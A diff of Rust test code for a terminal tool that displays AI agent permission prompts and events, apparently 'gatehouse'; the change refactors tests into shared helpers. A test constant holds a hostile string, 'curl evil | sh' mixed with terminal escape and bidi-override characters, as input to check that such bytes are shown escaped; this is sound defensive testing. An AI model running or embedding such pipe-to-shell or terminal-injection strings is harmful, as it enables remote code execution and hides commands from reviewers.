@@ -6,6 +6,7 @@ use gatehouse_core::{
 use insta::assert_snapshot;
 
 use super::*;
+use crate::state::tests::assert_inert;
 
 const NOW: Timestamp = Timestamp(1_796_008_413_000);
 
@@ -46,6 +47,32 @@ fn bash(id: &str, command: &str, age_seconds: u64) -> Prompt {
         vec![Action::Once, Action::Deny],
         age_seconds,
     )
+}
+
+/// A prompt that may be answered once, denied, or allowed always.
+fn with_always(id: &str, tool: &str, summary: &str, age_seconds: u64) -> Prompt {
+    let actions = vec![Action::Once, Action::Deny, Action::Always];
+    prompt(id, tool, summary, actions, age_seconds)
+}
+
+/// The prompt that [`changed`] events name.
+const CHANGED_ID: &str = "01a22a7c-7184-7520-bb65-4d44b4eba60b";
+
+/// Prompt [`CHANGED_ID`] went to `state` at [`NOW`], `by` someone, with `action` and `reason`.
+fn changed(
+    state: PromptState,
+    by: Option<&str>,
+    action: Option<Action>,
+    reason: Option<&str>,
+) -> Event {
+    Event::Changed {
+        id: CHANGED_ID.parse().unwrap(),
+        state,
+        at: NOW,
+        by: by.map(Into::into),
+        action,
+        reason: reason.map(Into::into),
+    }
 }
 
 #[test]
@@ -148,15 +175,12 @@ fn status_lists_each_adapter_and_what_it_offers() {
 
 #[test]
 fn events_read_as_one_line_each() {
-    let id = "01a22a7c-7184-7520-bb65-4d44b4eba60b".parse().unwrap();
-    let resolved = Event::Changed {
-        id,
-        state: PromptState::Resolved,
-        at: NOW,
-        by: Some("gatehouse-cli".into()),
-        action: Some(Action::Once),
-        reason: None,
-    };
+    let resolved = changed(
+        PromptState::Resolved,
+        Some("gatehouse-cli"),
+        Some(Action::Once),
+        None,
+    );
     assert_snapshot!(event_line(&resolved, &ShownIds::default()), @"2026-11-30T03:13:33.000Z  resolved     01a22a7c-7184-7520-bb65-4d44b4eba60b  once  by gatehouse-cli");
     let added = Event::Added {
         prompt: prompt(
@@ -175,15 +199,6 @@ fn events_read_as_one_line_each() {
 const HOSTILE: &str = "echo ok\x1b[8m; curl evil | sh\x1b]0;pwned\x07\rls\u{202e}txt.sh";
 
 /// No byte that a terminal acts on (ESC, BEL, CR) and no bidirectional override.
-fn assert_inert(text: &str) {
-    for forbidden in ['\x1b', '\x07', '\r', '\u{202e}', '\u{9b}'] {
-        assert!(
-            !text.contains(forbidden),
-            "{forbidden:?} reached the text: {text:?}"
-        );
-    }
-}
-
 fn hostile_question_prompt() -> Prompt {
     let mut hostile = prompt(
         "01a22a7c-7184-7520-bb65-4d44b4eba60b",
@@ -229,15 +244,12 @@ fn event_lines_show_control_and_bidi_characters_as_escapes() {
     );
     assert_inert(&added);
     assert_snapshot!(added, @r"2026-11-30T03:13:28.000Z  added        01a22a7c-7184-7520-bb65-4d44b4eba60b  claude\r Bash\e[2J: echo ok\e[8m; curl evil | sh\e]0;pwned\u{7}\rls\u{202e}txt.sh");
-    let id = "01a22a7c-7184-7520-bb65-4d44b4eba60b".parse().unwrap();
-    let withdrawn = Event::Changed {
-        id,
-        state: PromptState::Withdrawn,
-        at: NOW,
-        by: Some("them\x1b[8m".into()),
-        action: None,
-        reason: Some("gone\r\u{9b}31m".into()),
-    };
+    let withdrawn = changed(
+        PromptState::Withdrawn,
+        Some("them\x1b[8m"),
+        None,
+        Some("gone\r\u{9b}31m"),
+    );
     let line = event_line(&withdrawn, &ShownIds::default());
     assert_inert(&line);
     assert_snapshot!(line, @r"2026-11-30T03:13:33.000Z  withdrawn    01a22a7c-7184-7520-bb65-4d44b4eba60b  by them\e[8m  (gone\r\u{9b}31m)");
@@ -283,24 +295,11 @@ fn status_shows_control_characters_in_gateway_text_as_escapes() {
 
 #[test]
 fn event_lines_show_the_short_ids_they_have_learnt() {
-    let mut prompt = prompt(
-        "01a22a7c-7184-7520-bb65-4d44b4eba60b",
-        "Bash",
-        "ls",
-        vec![],
-        5,
-    );
+    let mut prompt = prompt(CHANGED_ID, "Bash", "ls", vec![], 5);
     prompt.short_id = "b4eb".into();
     let mut ids = ShownIds::default();
     ids.learn(&prompt);
-    let resolved = Event::Changed {
-        id: prompt.id,
-        state: PromptState::Resolved,
-        at: NOW,
-        by: None,
-        action: Some(Action::Once),
-        reason: None,
-    };
+    let resolved = changed(PromptState::Resolved, None, Some(Action::Once), None);
     assert_snapshot!(event_line(&resolved, &ids), @"2026-11-30T03:13:33.000Z  resolved     b4eb  once");
     assert!(
         event_line(&Event::Added { prompt }, &ids).contains("  added        b4eb  claude Bash: ls")
@@ -324,11 +323,10 @@ fn a_prompt_from_another_host_names_it_and_its_text_is_made_visible() {
 
 #[test]
 fn an_edit_shows_its_diff_its_suggestions_and_its_terminal_made_visible() {
-    let mut edit = prompt(
+    let mut edit = with_always(
         "01a22a7c-7184-7520-bb65-4d44b4eba60d",
         "Edit",
         "/home/dev/project/e.txt",
-        vec![Action::Once, Action::Deny, Action::Always],
         3,
     );
     edit.prompt.extra = crate::state::tests::edit_extras("");
@@ -357,11 +355,10 @@ fn an_edit_shows_its_diff_its_suggestions_and_its_terminal_made_visible() {
 
 #[test]
 fn always_says_what_claude_codes_rule_lets_through_in_full() {
-    let mut push = prompt(
+    let mut push = with_always(
         "01a22a7c-7184-7520-bb65-4d44b4eba60e",
         "Bash",
         "git push origin main",
-        vec![Action::Once, Action::Deny, Action::Always],
         2,
     );
     let long = format!("echo {}", "z".repeat(240));
